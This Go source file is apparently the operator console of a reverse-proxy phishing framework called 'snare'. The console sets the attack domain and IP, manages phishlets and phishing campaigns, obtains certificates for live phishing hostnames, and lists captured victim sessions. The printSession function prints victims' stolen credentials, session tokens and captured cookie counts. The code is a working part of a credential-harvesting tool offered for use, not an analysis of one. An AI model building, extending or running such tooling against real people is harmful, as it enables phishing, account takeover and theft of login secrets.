package core

import (
	"context"
	"fmt"
	"io"
	"strconv"
	"strings"
	"time"

	"github.com/chzyer/readline"
	"github.com/fatih/color"

	"github.com/snarelabs/snare/database/storage"
	"github.com/snarelabs/snare/log"
)

// Terminal is the operator console. It is a thin shell over the same
// config, storage and proxy surfaces the management API exposes.
type Terminal struct {
	rl        *readline.Instance
	cfg       *Config
	crt_db    *CertDb
	db        storage.Storage
	hp        *HttpProxy
	developer bool
}

func NewTerminal(hp *HttpProxy, cfg *Config, crt_db *CertDb, db storage.Storage, developer bool) (*Terminal, error) {
	t := &Terminal{
		cfg:       cfg,
		crt_db:    crt_db,
		db:        db,
		hp:        hp,
		developer: developer,
	}

	var err error
	t.rl, err = readline.NewEx(&readline.Config{
		Prompt:              t.prompt(),
		AutoComplete:        t.completer(),
		InterruptPrompt:     "^C",
		EOFPrompt:           "exit",
		FuncFilterInputRune: t.filterInput,
	})
	if err != nil {
		return nil, err
	}
	log.SetRefreshHook(func() {
		t.rl.Refresh()
	})
	return t, nil
}

func (t *Terminal) prompt() string {
	cyan := color.New(color.FgCyan)
	white := color.New(color.FgHiWhite)
	return cyan.Sprint("snare") + white.Sprint(" > ")
}

func (t *Terminal) completer() *readline.PrefixCompleter {
	return readline.NewPrefixCompleter(
		readline.PcItem("help"),
		readline.PcItem("config",
			readline.PcItem("domain"),
			readline.PcItem("ipv4"),
			readline.PcItem("blacklist",
				readline.PcItem("all"),
				readline.PcItem("unauth"),
				readline.PcItem("off"),
			),
		),
		readline.PcItem("phishlets"),
		readline.PcItem("campaigns",
			readline.PcItem("create"),
			readline.PcItem("start"),
			readline.PcItem("stop"),
			readline.PcItem("delete"),
		),
		readline.PcItem("sessions",
			readline.PcItem("delete"),
			readline.PcItem("close"),
		),
		readline.PcItem("clear"),
		readline.PcItem("exit"),
	)
}

func (t *Terminal) filterInput(r rune) (rune, bool) {
	switch r {
	case readline.CharCtrlZ:
		return r, false
	}
	return r, true
}

// DoWork runs the read-eval loop until exit.
func (t *Terminal) DoWork() {
	defer t.rl.Close()

	for {
		line, err := t.rl.Readline()
		if err == readline.ErrInterrupt {
			continue
		} else if err == io.EOF {
			break
		}

		line = strings.TrimSpace(line)
		if line == "" {
			continue
		}
		args := strings.Fields(line)

		switch args[0] {
		case "help":
			t.handleHelp()
		case "config":
			t.handleConfig(args[1:])
		case "phishlets":
			t.handlePhishlets(args[1:])
		case "campaigns":
			t.handleCampaigns(args[1:])
		case "sessions":
			t.handleSessions(args[1:])
		case "clear":
			readline.ClearScreen(color.Output)
		case "exit", "quit":
			return
		default:
			log.Error("unknown command: %s", args[0])
		}
	}
}

func (t *Terminal) handleHelp() {
	yellow := color.New(color.FgYellow)
	fmt.Println(yellow.Sprint("config") + "     manage server settings (domain, ipv4, blacklist mode)")
	fmt.Println(yellow.Sprint("phishlets") + "  list loaded phishlets")
	fmt.Println(yellow.Sprint("campaigns") + "  manage campaigns (create, start, stop, delete)")
	fmt.Println(yellow.Sprint("sessions") + "   inspect captured sessions (delete, close)")
	fmt.Println(yellow.Sprint("clear") + "      clear the screen")
	fmt.Println(yellow.Sprint("exit") + "       shut down")
}

func (t *Terminal) handleConfig(args []string) {
	if len(args) == 0 {
		log.Info("domain: %s", t.cfg.GetBaseDomain())
		log.Info("external ipv4: %s", t.cfg.GetExternalIpv4())
		log.Info("blacklist mode: %s", t.cfg.GetBlacklistMode())
		return
	}
	switch args[0] {
	case "domain":
		if len(args) == 2 {
			t.cfg.SetBaseDomain(args[1])
			return
		}
	case "ipv4":
		if len(args) == 2 {
			t.cfg.SetExternalIpv4(args[1])
			return
		}
	case "blacklist":
		if len(args) == 2 && stringExists(args[1], BLACKLIST_MODES) {
			t.cfg.SetBlacklistMode(args[1])
			return
		}
	}
	log.Error("config: invalid arguments")
}

func (t *Terminal) handlePhishlets(args []string) {
	names := t.cfg.GetPhishletNames()
	if len(names) == 0 {
		log.Info("no phishlets loaded")
		return
	}
	for _, name := range names {
		pl, err := t.cfg.GetPhishlet(name)
		if err != nil {
			continue
		}
		lh := pl.LandingHost()
		log.Info("%-20s hosts:%-3d landing:%s", pl.Name, len(pl.ProxyHosts()), combineHost(lh.PhishSub, lh.Domain))
	}
}

func (t *Terminal) handleCampaigns(args []string) {
	if len(args) == 0 {
		for _, cm := range t.cfg.GetCampaigns() {
			state := "stopped"
			if cm.Active {
				state = "live"
			}
			log.Info("[%s] %-20s %-30s %s", cm.Id, cm.Phishlet, cm.Hostname, state)
		}
		return
	}
	switch args[0] {
	case "create":
		if len(args) >= 3 {
			cm := &Campaign{Phishlet: args[1], Hostname: strings.ToLower(args[2])}
			if len(args) >= 4 {
				cm.RedirectUrl = args[3]
			}
			if err := t.cfg.AddCampaign(cm); err != nil {
				log.Error("%v", err)
			}
			return
		}
	case "start":
		if len(args) == 2 {
			cm, err := t.cfg.GetCampaign(args[1])
			if err != nil {
				log.Error("%v", err)
				return
			}
			if err := t.hp.ActivateCampaign(cm); err != nil {
				log.Error("%v", err)
				return
			}
			if err := t.cfg.SetCampaignActive(cm.Id, true); err != nil {
				t.hp.DeactivateCampaign(cm.Id)
				log.Error("%v", err)
				return
			}
			if !t.developer && t.cfg.IsAutocertEnabled() {
				ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
				defer cancel()
				if err := t.crt_db.SetManagedHostnames(ctx, t.hp.ActiveHostnames()); err != nil {
					log.Error("certdb: %v", err)
				}
			}
			return
		}
	case "stop":
		if len(args) == 2 {
			if err := t.cfg.SetCampaignActive(args[1], false); err != nil {
				log.Error("%v", err)
				return
			}
			t.hp.DeactivateCampaign(args[1])
			return
		}
	case "delete":
		if len(args) == 2 {
			t.hp.DeactivateCampaign(args[1])
			if err := t.cfg.DeleteCampaign(args[1]); err != nil {
				log.Error("%v", err)
			}
			return
		}
	}
	log.Error("campaigns: invalid arguments")
}

func (t *Terminal) handleSessions(args []string) {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()

	if len(args) == 0 {
		sessions, err := t.db.ListSessions(ctx)
		if err != nil {
			log.Error("database: %v", err)
			return
		}
		if len(sessions) == 0 {
			log.Info("no sessions")
			return
		}
		for _, s := range sessions {
			log.Info("[%d] %-10s %-16s creds:%-3d tokens:%-3d %s %s",
				s.Id, s.Phishlet, truncateString(s.SessionId, 12), len(s.Credentials), len(s.Tokens), s.Status, s.RemoteAddr)
		}
		return
	}
	switch args[0] {
	case "delete":
		if len(args) == 2 {
			t.hp.tracker.Close(args[1])
			if err := t.db.DeleteSession(ctx, args[1]); err != nil {
				log.Error("database: %v", err)
				return
			}
			log.Info("session deleted: %s", args[1])
			return
		}
	case "close":
		if len(args) == 2 {
			t.hp.tracker.Close(args[1])
			if err := t.db.UpdateStatus(ctx, args[1], StatusClosed); err != nil {
				log.Error("database: %v", err)
			}
			return
		}
	default:
		// treat the argument as a session id and dump its capture
		s, err := t.db.GetSession(ctx, args[0])
		if err != nil {
			log.Error("database: %v", err)
			return
		}
		t.printSession(s)
		return
	}
	log.Error("sessions: invalid arguments")
}

func (t *Terminal) printSession(s *storage.Session) {
	log.Info("session: %s", s.SessionId)
	log.Info("phishlet: %s  status: %s", s.Phishlet, s.Status)
	log.Info("remote: %s  ua: %s", s.RemoteAddr, truncateString(s.UserAgent, 64))
	log.Info("landing: %s", s.LandingURL)
	log.Info("created: %s  updated: %s",
		time.Unix(s.CreateTime, 0).UTC().Format(time.RFC3339),
		time.Unix(s.UpdateTime, 0).UTC().Format(time.RFC3339))
	for k, v := range s.Credentials {
		log.Success("credential %s: %s", k, v)
	}
	for k, v := range s.Tokens {
		log.Success("token %s: %s", k, truncateString(v, 48))
	}
	ncookies := 0
	for _, m := range s.CookieTokens {
		ncookies += len(m)
	}
	if ncookies > 0 {
		log.Success("cookies captured: %s", strconv.Itoa(ncookies))
	}
}
